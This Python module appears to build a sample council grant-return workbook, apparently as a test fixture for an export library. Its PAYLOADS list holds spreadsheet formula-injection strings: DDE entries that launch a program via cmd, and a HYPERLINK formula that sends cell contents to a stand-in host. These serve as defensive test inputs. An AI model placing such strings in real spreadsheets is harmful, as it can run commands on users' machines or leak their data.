"""A small book with every kind of cell, formula, chart and hostile text."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

from wardenlog.returns.workbook.formulas import this_row, whole_column
from wardenlog.returns.workbook.layout import (
    As,
    Book,
    Cell,
    Chart,
    Column,
    Formula,
    Link,
    Seal,
    Sheet,
    Table,
    Validation,
)
from wardenlog.returns.workbook.machine import machine_copy

PRODUCED = datetime(2025, 7, 3, 9, 30, tzinfo=UTC)

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "_x0041_ and _x000D_ and _x005F_x0041_",
    "tags <b>&amp;</b> \"quoted\" 'single' ]]>",
    "control \x00\x07\x0b characters",
    "a lone surrogate \ud800 here",
    "astral 😀 𝒳 and “quotes” – dashes",
    "line one\r\nline two\rline three",
    "  spaces around  ",
    "'leading apostrophe",
    "1e5",
    "TRUE",
    "012345",
    "#REF!",
)

HOTSPOTS: Sequence[tuple[str, str, int, int]] = (
    ("H01", "Market Square and the bus station", 4215, 4800),
    ("H02", "Riverside Park", 3377, 3600),
    ("H03", "Station Road shops", 2954, 2400),
    ("H04", "Albert Street car park", 1207, 1800),
    ("H05", "The Links estate", 611, 1200),
)


def sample_book() -> Book:
    """Return a new copy of the book."""
    sheets = (claim(), contents(), hotspots(), totals(), payloads(), months(), sign_off())
    book = Book(
        sheets,
        title="Grant-variation return, Quarter 1 2025-26",
        author="Ashby Vale Council <wardens>",
        subject="Community warden patrols",
        produced_at=PRODUCED,
        custom={"wardenlog.schema": "1.0.0", "wardenlog.ons": "E07000999"},
    )
    tables = [sheet.table for sheet in sheets]
    return replace(book, machine_copy=machine_copy(tables, book.custom.items()))


def claim() -> Sheet:
    total = sum(minutes for _, _, minutes, _ in HOTSPOTS)
    rows: list[Sequence[Cell]] = [
        ("Council", "Ashby Vale Council", "[z]"),
        ("Produced", As(PRODUCED, "moment"), "[z]"),
        ("Period start", As(date(2025, 4, 1), "date"), "[z]"),
        (
            "Hours claimed",
            As(
                Formula(
                    f"ROUND(SUM({whole_column('Hotspots', 'Minutes')})/60,2)",
                    round(Decimal(total) / 60, 2),
                ),
                "hours",
            ),
            "Rounded once, from minutes",
        ),
        ("Amount claimed", As(Decimal("6489.53"), "money"), "Under the cap of £30,000"),
        ("Percent of target", As(Decimal("89.6"), "percent"), "[low]"),
        (
            "Checks",
            Formula(
                f'IF(COUNTIF({whole_column("Totals", "Result")},"fail")=0,"All checks pass",'
                '"Some checks need attention")',
                "All checks pass",
            ),
            "Live: recomputed when a figure changes",
        ),
        ("Receipt code", Seal.RECEIPT_CODE, "Read it out to the grant officer"),
        ("Fingerprint", Seal.FINGERPRINT, "[z]"),
    ]
    columns = (Column("Field"), Column("Value"), Column("Note"))
    return Sheet(
        "Claim",
        "Claim: Quarter 1 2025-26",
        "Ashby Vale Council, agreement GA-1",
        Table("Claim", columns, rows),
        notes=("Read this page first. Every figure is explained on the sheets that follow.",),
        one_page=True,
    )


def contents() -> Sheet:
    rows = [
        (Link("Claim", "Claim"), "The claim on one page"),
        (Link("Hotspots", "Hotspots"), "Hours against target by hotspot"),
        (Link("Sign-off", "Sign-off"), "Who vouches for the return"),
    ]
    columns = (Column("Sheet", "link"), Column("What it shows"))
    return Sheet("Contents", "Contents", "What each sheet shows", Table("Contents", columns, rows))


def hotspots() -> Sheet:
    rows: list[Sequence[Cell]] = []
    for code, name, minutes, target in HOTSPOTS:
        reference = this_row("Hotspots", "Minutes")
        target_reference = this_row("Hotspots", "Target hours")
        rows.append(
            (
                code,
                name,
                date(2025, 4, 1),
                minutes,
                Formula(f"{reference}/60", minutes / 60),
                Decimal(target) / 60,
                Formula(
                    f"ROUND(100*{reference}/60/{target_reference},1)",
                    round(Decimal(100 * minutes) / target, 1),
                ),
                "[z]" if code == "H05" else Decimal("12.5"),
                True,
            )
        )
    columns = (
        Column("Hotspot code"),
        Column("Hotspot"),
        Column("Listed from", "date"),
        Column("Minutes", "minutes"),
        Column("Hours", "hours"),
        Column("Target hours", "hours"),
        Column("Percent of target", "percent"),
        Column("Median minutes per visit", "number"),
        Column("Sensitive"),
    )
    figures = "; ".join(
        f"{name}: {minutes / 60:.0f} hours, target {target / 60:.0f}"
        for _, name, minutes, target in HOTSPOTS
    )
    chart = Chart(
        "Hours against target by hotspot",
        "Hotspot",
        ("Hours", "Target hours"),
        f"Bar chart of hours against target by hotspot. {figures}.",
        "Hours",
    )
    return Sheet(
        "Hotspots",
        "Hotspots",
        "Hours in each hotspot against its target",
        Table("Hotspots", columns, rows),
        notes=("Hours are minutes divided by 60 and are not rounded before they are added up.",),
        charts=(chart,),
    )


def totals() -> Sheet:
    total = sum(minutes for _, _, minutes, _ in HOTSPOTS)
    minutes = whole_column("Hotspots", "Minutes")
    rows: list[Sequence[Cell]] = []
    for name, text, value in (
        ("Sum", f"SUM({minutes})", total),
        ("Over 3,000", f'SUMIFS({minutes},{minutes},">3000")', 4215 + 3377),
        ("Largest", f"MAX({minutes})", 4215),
        ("H03", f'INDEX({minutes},MATCH("H03",Hotspots[Hotspot code],0))', 2954),
    ):
        found, expected = this_row("Totals", "Found"), this_row("Totals", "Expected")
        rows.append(
            (
                name,
                value,
                Formula(text, value),
                Formula(f"ABS({found}-{expected})", 0),
                Formula(f'IF(ABS({found}-{expected})<0.5,"pass","fail")', "pass"),
            )
        )
    columns = (
        Column("Check"),
        Column("Expected", "minutes"),
        Column("Found", "minutes"),
        Column("Difference", "minutes"),
        Column("Result"),
    )
    return Sheet("Checks", "Checks", "The figures add up", Table("Totals", columns, rows))


def payloads() -> Sheet:
    rows = [(number, text) for number, text in enumerate(PAYLOADS, start=1)]
    columns = (Column("Number", "count"), Column("Text as recorded"))
    return Sheet("Text", "Text", "Texts that try to be more", Table("Texts", columns, rows))


def months() -> Sheet:
    """A long table of more columns than one page holds."""
    headings = [f"Measure {letter} counted" for letter in "ABCDEFGHIJKL"]
    columns = (Column("Month"), Column("Hotspot code"), *(Column(h, "count") for h in headings))
    rows: list[Sequence[Cell]] = [
        (f"2025-{month:02}", f"H{spot:02}", *(month * spot * place for place in range(12)))
        for month in range(1, 13)
        for spot in range(1, 6)
    ]
    return Sheet("Months", "Months", "Counts by month", Table("Months", columns, rows, keys=2))


def sign_off() -> Sheet:
    columns = (Column("Statement", width=60), Column("Answer"), Column("Name"), Column("Date"))
    rows = [
        ("The figures agree with our records.", "[to answer]", "[to fill in]", "[to fill in]"),
        (
            "The money was spent on the grant's purpose.",
            "[to answer]",
            "[to fill in]",
            "[to fill in]",
        ),
    ]
    return Sheet(
        "Sign-off",
        "Sign-off",
        "To be completed by the council",
        Table("Sign_off", columns, rows, sealed=False),
        validations=(Validation("Answer", ("Yes", "No")),),
    )
